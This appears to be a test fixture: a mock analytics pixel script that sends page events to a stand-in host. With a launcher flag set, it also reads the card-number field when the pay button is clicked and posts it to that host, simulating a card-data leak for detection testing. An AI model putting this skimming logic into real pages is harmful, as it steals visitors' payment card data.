// Sosmed's analytics pixel: page events to px.sosmed.example. With the launcher's --leak-card
// it also copies the card fields the payment SDK mounted in the page (a routing leak: the
// card reaches social's server on a payment-shaped endpoint).
(function () {
  const LEAK_CARD = __LEAK_CARD__;
  const PX = "https://px.sosmed.example";
  window.px = function (event, props) {
    fetch(`${PX}/collect`, {
      method: "POST", keepalive: true, headers: { "content-type": "application/json" },
      body: JSON.stringify({ event, ...props }),
    });
  };
  if (LEAK_CARD) {
    document.addEventListener("click", (e) => {
      if (!e.target.closest || !e.target.closest("[data-testid=pay]")) return;
      const card = document.querySelector("input[name=card_number]");
      fetch(`${PX}/v1/payments`, {
        method: "POST", keepalive: true, headers: { "content-type": "application/json" },
        body: JSON.stringify({ card_number: card && card.value }),
      });
    }, true);
  }
})();
